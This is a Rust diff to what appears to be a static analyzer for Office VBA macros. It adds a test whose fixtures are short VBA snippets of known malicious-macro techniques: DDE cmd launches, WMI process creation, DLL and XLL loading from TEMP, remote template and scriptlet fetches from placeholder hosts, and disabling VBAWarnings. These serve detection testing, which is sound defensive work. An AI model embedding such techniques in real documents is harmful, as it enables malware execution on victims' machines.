@@ -7,6 +7,7 @@
 
 mod fold;
 mod graph;
+mod hints;
 mod lex;
 mod sight;
 mod words;
@@ -164,7 +165,7 @@ pub fn share(name: &str, text: &str, into: &mut Shared, cx: &mut Cx<'_>) -> Resu
         let len = tokens.first().zip(tokens.last()).map_or(0, |(first, last)| last.end.abs_diff(first.start));
         cx.budget.step(u64::from(len >> 4).saturating_add(1))?;
         let Some(declare) = declare(&tokens) else { continue };
-        let Some(kind) = sight::native(declare.function()) else { continue };
+        let Some(kind) = sight::declared(&declare) else { continue };
         if !tokens.first().is_some_and(|first| first.is_word("Private")) {
             cx.budget.hold(ITEM_BYTES)?;
             into.names.push((declare.name, kind));
@@ -324,7 +325,7 @@ impl<'t> Viewing<'t, '_> {
             return true;
         }
         if let Some(declare) = declare(tokens) {
-            if let Some(kind) = sight::native(declare.function()) {
+            if let Some(kind) = sight::declared(&declare) {
                 let word = self.words.index(&declare.name);
                 self.words.teach(word, |known| known.native = Some(kind));
             }
@@ -623,6 +624,52 @@ mod tests {
         assert_eq!(command("Shell Replace(x, \"a\", \"b\"), 0"), with(None));
         assert_eq!(command("Shell (\"a.exe\")"), with(Some("a.exe")));
         assert_eq!(command("Shell StrReverse(\"exe.a\")"), with(Some("a.exe")));
+    }
+
+    #[test]
+    fn what_leaves_the_program_in_other_ways_is_seen() {
+        use Action::{Download, LibraryLoad, ProcessStart, RegistryWrite, ScriptRun};
+        for (text, kind) in [
+            ("c = DDEInitiate(\"cmd\", \"/c a\")", ProcessStart),
+            ("o.ActiveView.ExecuteShellCommand \"a.exe\"", ProcessStart),
+            ("Set s = CreateObject(\"Schedule.Service\")\nf.RegisterTask \"a\", x, 6", ProcessStart),
+            ("Set p = s.Get(\"Win32_Process\")\np.ExecMethod_ \"Create\", i", ProcessStart),
+            ("Set s = CreateObject(\"Shell.Application\")\ns.Open \"C:\\a.js\"", ProcessStart),
+            ("Set o = CreateObject(\"WScript.Shell\")\nCallByName o, m, 1, x", ProcessStart),
+            ("VBA.CallByName F(1, 2), \"ShellExecute\", 1, \"a\"", ProcessStart),
+            ("Range(\"A1\").Formula = \"=cmd|'/c a'!A0\"", ProcessStart),
+            ("d.Fields.Add r, -1, \"DDEAUTO c:\\\\windows\\\\cmd.exe \"\"/c a\"\"\"", ProcessStart),
+            ("Set x = GetObject(\"script:http://a.invalid/a.sct\")", ProcessStart),
+            ("Set s = CreateObject(\"ScriptControl\")\ns.AddCode x", ScriptRun),
+            ("h.parentWindow.execScript x, \"JScript\"", ScriptRun),
+            ("Application.RegisterXLL p", LibraryLoad),
+            ("Workbooks.Open Environ(\"TEMP\") & \"\\a.xll\"", LibraryLoad),
+            ("LoadLibraryA Environ(\"TEMP\") & \"\\a.dll\"", LibraryLoad),
+            (
+                "Declare Function Go Lib \"C:\\Users\\Public\\a.dll\" () As Long\nSub S()\nGo 1\nEnd Sub",
+                LibraryLoad,
+            ),
+            ("d.AttachedTemplate = \"http://a.invalid/a.dotm\"", Download),
+            ("d.AttachedTemplate = \"\\\\a.invalid@80\\dav\\a.dotm\"", Download),
+            ("s.AddOLEObject FileName:=\"http://a.invalid/a.hta\", LinkToFile:=True", Download),
+            ("System.PrivateProfileString(\"\", k, \"VBAWarnings\") = \"1\"", RegistryWrite),
+        ] {
+            assert!(kinds(text).contains(&kind), "{text}: {:?}", kinds(text));
+        }
+        for text in [
+            "c = DDEInitiate(\"Excel\", \"System\")",
+            "Workbooks.Open \"C:\\a.js\"",
+            "CallByName o, m, 1, x",
+            "Range(\"A1\").Formula = \"=FEED|PRICES!A\"",
+            "AddIns.Add \"C:\\a.xlam\"",
+            "x.Eval \"1\"",
+            "LoadLibraryA p & \"\\a.dll\"",
+            "d.AttachedTemplate = \"\\\\server\\a.dotm\"",
+            "v = System.PrivateProfileString(\"\", k, \"VBAWarnings\")",
+        ] {
+            let wanted = [Download, LibraryLoad, ProcessStart, RegistryWrite, ScriptRun];
+            assert!(!kinds(text).iter().any(|kind| wanted.contains(kind)), "{text}: {:?}", kinds(text));
+        }
     }
 
     #[test]
